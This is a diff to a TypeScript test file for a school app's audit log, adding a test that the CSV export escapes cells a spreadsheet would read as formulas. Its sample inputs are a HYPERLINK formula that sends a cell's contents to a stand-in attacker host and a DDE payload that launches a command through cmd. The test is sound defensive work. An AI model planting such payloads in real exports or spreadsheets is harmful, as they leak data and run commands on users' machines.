@@ -2,6 +2,8 @@ import { parse } from 'csv-parse/sync';
 import { sql } from 'drizzle-orm';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { AUDIT_MASK, type AuditEntry } from '@contracts/audit';
+import { recordActivity } from '../activities/activity.service';
+import { createUser } from '../users/user.service';
 import { buildTestApp, signInAs, type TestContext, type TestUser } from '../../../test/build-app';
 import { teacherPayload } from '../../../test/factories';
 
@@ -81,5 +83,16 @@ describe('the audit log', () => {
     expect(rows.map((row) => row.activity)).toEqual(['Updated teacher Olga Auditada', 'Created teacher Olga Auditada']);
     expect(JSON.parse(rows[0]!.changes!).bio).toEqual({ before: 'Bio antigua', after: 'Bio nueva' });
     expect(response.body).not.toMatch(/1234567890|9999999999/);
+  });
+
+  it('quotes text a spreadsheet would read as a formula (a username, an activity), as a spreadsheet reads the file back', async () => {
+    const link = '=HYPERLINK("http://evil.example/?x="&C2,"Marta")';
+    const person = await createUser({ db: context.db, input: { email: 'formula@test.school', password: 'correct-horse-battery', username: link, role: 'teacher' } });
+    await recordActivity(context.db, { userId: person.id, activity: "@SUM(1)+cmd|' /C calc'!A0", entityType: 'formula', entityId: 1 });
+    const response = await get(staff, '/api/audit.csv?entity_type=formula');
+    const rows = parse(response.body, { columns: true, bom: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ username: `'${link}`, activity: "'@SUM(1)+cmd|' /C calc'!A0", entity_id: '1' });
+    for (const value of Object.values(rows[0]!)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
